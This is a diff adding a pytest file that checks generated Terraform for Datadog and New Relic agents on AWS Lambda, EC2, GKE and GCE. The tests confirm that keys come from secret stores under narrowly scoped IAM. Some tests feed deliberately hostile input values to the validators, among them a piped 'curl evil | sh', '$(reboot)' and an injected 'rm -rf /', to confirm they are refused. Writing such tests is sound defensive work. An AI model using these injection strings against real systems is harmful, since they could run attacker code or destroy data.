@@ -1,0 +1,170 @@
+"""Datadog / New Relic on Lambda and VMs (and New Relic on GKE / AKS): the key comes from the cloud's secret store,
+only the workload's own identity may read exactly that secret, nothing user-typed reaches the boot script, and the
+report's Requirements table says honoured with the generated line."""
+
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+
+from bot import hclread
+from bot.commands.arguments import apply_assignments, parse_assignments
+from bot.inputs import missing_inputs
+from bot.pipeline.planning import plan_environment
+from bot.settings import Settings
+from bot.spec import SpecError, spec_from_data
+from generators.terraform.build import generate
+from tests.support.aws_specs import SPECS, make_plan, terraform_files
+from tests.test_seed_capabilities import report_for, requirement_row
+
+LAMBDA = SPECS["alarms-functions"]
+VM = SPECS["vm-apm"]
+
+
+def _statements(files: dict[str, str]) -> dict[str, dict]:
+    document = hclread.loads(files["access.tf"])["data"][0]["aws_iam_policy_document"]["app"]
+    return {s["sid"]: s for s in document["statement"]}
+
+
+def test_lambda_reads_its_keys_by_arn_and_its_role_may_read_exactly_those_secrets() -> None:
+    files = terraform_files(make_plan("alarms-functions"))
+    (function,) = [r["aws_lambda_function"]["app"] for r in hclread.loads(files["lambda.tf"])["resource"]
+                   if "aws_lambda_function" in r]
+    env = function["environment"][0]["variables"]
+    assert env["DD_API_KEY_SECRET_ARN"] == "${var.datadog_secret_arn}" and env["DD_SITE"] == "${var.datadog_site}"
+    assert env["DD_ENV"] == "hooks-alarms-dev" and env["DD_SERVICE"] == "hooks-alarms-dev" and "var.image" in env["DD_VERSION"]
+    assert env["NEW_RELIC_LICENSE_KEY_SECRET"] == "${var.newrelic_secret_arn}"
+    assert env["NEW_RELIC_ACCOUNT_ID"] == "${var.newrelic_account_id}"
+    assert "DD_API_KEY" not in env and "NEW_RELIC_LICENSE_KEY" not in env  # never the key itself
+    assert "layers" not in function  # a container-image function takes no layers: the image carries the extension
+    keys = _statements(files)["ReadMonitoringKeys"]
+    assert keys["actions"] == ["secretsmanager:GetSecretValue"]
+    assert keys["resources"] == ["${var.datadog_secret_arn}", "${var.newrelic_secret_arn}"]
+    assert 'role       = aws_iam_role.lambda.name' in files["access.tf"]  # the function's own role
+    missing = {m.name for m in missing_inputs(files)}
+    assert {"datadog_secret_arn", "newrelic_secret_arn", "newrelic_account_id"} <= missing  # "Before you merge"
+
+
+def test_without_apm_the_function_and_the_vm_read_no_key() -> None:
+    for data in ({**LAMBDA, "monitoring": ["cloudwatch"]}, {**VM, "monitoring": []}):
+        files = terraform_files(plan_environment(spec_from_data(data)))
+        assert "ReadMonitoringKeys" not in files["access.tf"]
+        assert "datadog" not in "".join(files.values()).lower() and "newrelic" not in "".join(files.values()).lower()
+
+
+def test_newrelic_account_id_is_an_input_and_bad_values_are_refused() -> None:
+    data = apply_assignments(dict(LAMBDA), parse_assignments("newrelic_account_id=1234567"))
+    tfvars = json.loads(terraform_files(plan_environment(spec_from_data(data)))["dev-agent.auto.tfvars.json"])
+    assert tfvars["newrelic_account_id"] == "1234567"
+    bad = apply_assignments(dict(LAMBDA), parse_assignments("newrelic_account_id=$(reboot)"))
+    with pytest.raises(SpecError, match=r"inputs\.newrelic_account_id"):
+        spec_from_data(bad)
+
+
+def test_vm_user_data_installs_the_agents_with_keys_read_at_boot_by_the_instance_role() -> None:
+    files = terraform_files(make_plan("vm-apm"))
+    ec2 = files["ec2.tf"]
+    user_data = ec2[ec2.index("user_data = join"):ec2.index("user_data_replace_on_change")]
+    # each key is read at boot from its secret, by ARN, into a shell variable (never written into the script)
+    assert re.search(r'dd_api_key=\\"\$\(aws secretsmanager get-secret-value --region %s --secret-id %s '
+                     r'--query SecretString --output text\)\\"", var\.region, var\.datadog_secret_arn\)', user_data)
+    assert "var.newrelic_secret_arn)" in user_data
+    assert "install_script_agent7.sh" in user_data and 'DD_HOST_TAGS=\\"env:legacy-apm-dev,service:legacy\\"' in user_data
+    assert "newrelic-infra.repo" in user_data and "install -m 600 /dev/null /etc/newrelic-infra.yml" in user_data
+    assert "echo DD_AGENT_HOST=host.docker.internal >> /etc/app.env" in user_data
+    assert "--add-host=host.docker.internal:host-gateway" in user_data  # the app's container reaches the Agent
+    assert "|| echo 'dev-agent: the APM agent was not installed" in user_data  # a failed install keeps the app up
+    keys = _statements(files)["ReadMonitoringKeys"]
+    assert keys["actions"] == ["secretsmanager:GetSecretValue"]
+    assert keys["resources"] == ["${var.datadog_secret_arn}", "${var.newrelic_secret_arn}"]
+    variables = files["variables.tf"]
+    assert 'variable "datadog_site"' in variables and "can(regex(" in variables.split('variable "datadog_site"')[1]
+
+
+def test_a_hostile_datadog_site_is_refused_by_the_variable_validation() -> None:
+    files = terraform_files(make_plan("vm-apm"))
+    site = next(v["datadog_site"] for v in hclread.loads(files["variables.tf"])["variable"] if "datadog_site" in v)
+    pattern = re.search(r'regex\("(.+?)", var\.datadog_site\)', site["validation"][0]["condition"]).group(1)
+    pattern = pattern.encode().decode("unicode_escape")
+    assert re.match(pattern, "datadoghq.eu") and re.match(pattern, "us5.datadoghq.com")
+    for hostile in ('x" ; curl evil | sh ; "', "$(reboot)", "a b", "datadoghq.com\nrm -rf /"):
+        assert not re.match(pattern, hostile), hostile
+
+
+@pytest.mark.parametrize(("text", "file"), [
+    ("FastAPI on Lambda with Datadog on AWS us-east-1", "/terraform/lambda.tf:"),
+    ("FastAPI on Lambda with New Relic on AWS us-east-1", "/terraform/lambda.tf:"),
+    ("FastAPI on an EC2 VM with Datadog on AWS us-east-1", "/terraform/ec2.tf:"),
+    ("FastAPI on an EC2 VM with New Relic on AWS us-east-1", "/terraform/ec2.tf:"),
+])
+def test_report_honours_apm_on_lambda_and_vms_with_the_generated_line(text: str, file: str) -> None:
+    report = report_for(text)
+    row = requirement_row(report, "Datadog agent" if "Datadog" in text else "New Relic agent")
+    assert "✅ honoured" in row and file in row, row
+    before = report[report.index("Before you merge"):report.index("### Spec")]
+    assert ("`datadog_secret_arn`" if "Datadog" in text else "`newrelic_secret_arn`") in before
+    risks = report[report.index("### Risks"):report.index("### Next steps")]
+    assert ("takes no layers; the image must carry" if "Lambda" in text else "the boot script installs") in risks
+
+
+# --- GCP: New Relic on GKE, agents on Compute Engine VMs ------------------------------------------------------------
+
+GKE = dict(name="shop-dev", service="shop", cloud="gcp", region="us-central1", compute=dict(kind="kubernetes"),
+           monitoring=["datadog", "newrelic"])
+GCE = dict(name="legacy-dev", service="legacy", cloud="gcp", region="us-central1",
+           compute=dict(kind="vm", min_replicas=1, max_replicas=1), monitoring=["datadog", "newrelic"])
+
+
+def _gcp_files(data: dict) -> dict[str, str]:
+    files = generate(plan_environment(spec_from_data(data)), Settings())
+    return {path.rsplit("/", 1)[1]: text for path, text in files.items() if "/terraform/" in path}
+
+
+def _iam_members(files: dict[str, str]) -> dict[str, dict]:
+    return {name: body for entry in hclread.loads(files["apm.tf"])["resource"]
+            for rtype, named in entry.items() if rtype == "google_secret_manager_secret_iam_member"
+            for name, body in named.items()}
+
+
+def test_gke_newrelic_key_comes_from_secret_manager_through_external_secrets() -> None:
+    files = _gcp_files(GKE)
+    values = next(o["helm_values"] for o in hclread.loads(files["outputs.tf"])["output"] if "helm_values" in o)["value"]
+    assert values["externalSecret"]["managedSecrets"]["NEW_RELIC_LICENSE_KEY"] == {"key": "${var.newrelic_secret_id}"}
+    assert "gcpsm" in values["externalSecret"]["provider"]  # the release's store acts as the app's service account
+    members = _iam_members(files)
+    assert set(members) == {"newrelic_key_app"}  # Datadog on GKE: the operator's node Agent holds its key
+    member = members["newrelic_key_app"]
+    assert member["secret_id"] == "${var.newrelic_secret_id}" and member["project"] == "${var.project_id}"
+    assert member["role"] == "roles/secretmanager.secretAccessor"  # on that one secret, never project-wide
+    assert "google_service_account.app.email" in member["member"]  # the app's own service account
+    assert {m.name for m in missing_inputs(files)} >= {"newrelic_secret_id"}
+
+
+def test_gce_startup_script_reads_the_keys_with_the_vms_service_account() -> None:
+    files = _gcp_files(GCE)
+    script = files["vm.tf"]
+    assert re.search(r'dd_api_key=.*secretmanager\.googleapis\.com/v1/projects/%s/secrets/%s/versions/latest:access.*'
+                     r'var\.project_id, var\.datadog_secret_id\)', script)
+    assert "var.project_id, var.newrelic_secret_id)" in script
+    assert "install_script_agent7.sh" in script and "infrastructure_agent/linux/apt/ bookworm main" in script
+    assert "--add-host=host.docker.internal:host-gateway" in script
+    members = _iam_members(files)
+    assert {m["secret_id"] for m in members.values()} == {"${var.datadog_secret_id}", "${var.newrelic_secret_id}"}
+    assert all(m["role"] == "roles/secretmanager.secretAccessor" for m in members.values())
+    assert {"datadog_secret_id", "newrelic_secret_id"} <= {m.name for m in missing_inputs(files)}
+    data = apply_assignments(dict(GCE), parse_assignments("newrelic_secret_id=nr-license datadog_secret_id=dd-key"))
+    assert spec_from_data(data).inputs.newrelic_secret_id == "nr-license"
+    with pytest.raises(SpecError, match=r"inputs\.datadog_secret_id"):
+        spec_from_data(apply_assignments(dict(GCE), parse_assignments('datadog_secret_id="a;reboot"')))
+
+
+@pytest.mark.parametrize(("text", "label", "file"), [
+    ("FastAPI on GKE in us-central1 with New Relic", "New Relic agent", "/terraform/outputs.tf:"),
+    ("FastAPI on a VM in GCP us-central1 with Datadog", "Datadog agent", "/terraform/vm.tf:"),
+    ("FastAPI on a VM in GCP us-central1 with New Relic", "New Relic agent", "/terraform/vm.tf:"),
+])
+def test_report_honours_apm_on_gke_and_gce(text: str, label: str, file: str) -> None:
+    row = requirement_row(report_for(text), label)
+    assert "✅ honoured" in row and file in row, row
